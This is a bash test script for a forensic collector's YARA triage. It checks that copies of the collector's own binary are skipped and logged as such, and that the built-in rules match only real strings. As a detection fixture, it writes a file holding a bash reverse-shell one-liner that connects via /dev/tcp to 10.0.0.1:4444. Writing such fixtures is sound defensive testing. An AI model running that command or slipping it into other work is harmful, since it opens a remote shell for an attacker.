#!/usr/bin/env bash
# The collector embeds its default YARA rules, so each copy of its binary used to match 21 of
# them. A file with the running collector's SHA-256 is skipped (and logged with the reason),
# whatever its name and whether it is scanned in the scope or as a collected file; and the rule
# text itself matches no rule, so `yara` with the same rules finds only the one rule that real
# strings of the binary meet (rules/yara/README.md, "Rules never match their own text").
source "$TEST_HELPERS"

mkdir -p scope/tmp
cp "$COLLECTOR" scope/tmp/x
cp "$COLLECTOR" scope/tmp/.cache-update
printf 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >scope/tmp/rs.sh

# matches_of PKG: "rule path" of every triage match; also extracts into out-<name of PKG>.
matches_of() {
  rm -rf out
  "$BIUNZIP" -q extract "$1" -o out --no-report >/dev/null || fail "biunzip could not extract $1"
  sqlite3 out/case.db "select rule || ' ' || path from triage_matches order by 1"
}
skipped_paths() {
  jq -r 'select(.event == "triage_skipped") | .path + " | " + .reason' out/collection.log | sort
}
reason="a copy of the running collector (same SHA-256)"
want_skipped="$PWD/scope/tmp/.cache-update | $reason
$PWD/scope/tmp/x | $reason"

# --- the file-system scope ----------------------------------------------------------------------
expect_exit 0 timeout 300 "$COLLECTOR" --profile none --scan "$PWD/scope" --no-encrypt \
  --case-dir cases --quiet </dev/null
eq "$(matches_of "$OUT")" "bash_dev_tcp_reverse_shell $PWD/scope/tmp/rs.sh" "matches in the scope"
eq "$(skipped_paths)" "$want_skipped" "skipped copies"
ok "copies of the collector in the scan scope match nothing and are logged as skipped"

# --- a collected copy (scanned from the stored bytes, not from the scope) ------------------------
expect_exit 0 timeout 300 "$COLLECTOR" --profile none --collect "$PWD/scope/tmp/x" \
  --scan "$PWD/scope" --no-encrypt --case-dir cases-collected --quiet </dev/null
eq "$(matches_of "$OUT")" "bash_dev_tcp_reverse_shell $PWD/scope/tmp/rs.sh" "matches with a collected copy"
cmp out/files"$PWD"/scope/tmp/x "$COLLECTOR" || fail "the collected copy was not stored as evidence"
eq "$(skipped_paths)" "$want_skipped" "skipped copies (one collected)"
ok "a collected copy is stored as evidence but never a triage hit"

# --- yara with the built-in rules -----------------------------------------------------------------
eq "$(yara -w -r "$PPC_SOURCE_DIR"/rules/yara/*.yar scope/tmp/x)" \
  "elf_static_stripped_with_attack_strings scope/tmp/x" "yara's matches on a copy of the collector"
ok "yara with the built-in rules: only elf_static_stripped_with_attack_strings, for real strings"
echo "triage_self_copy: $pass_count checks passed"
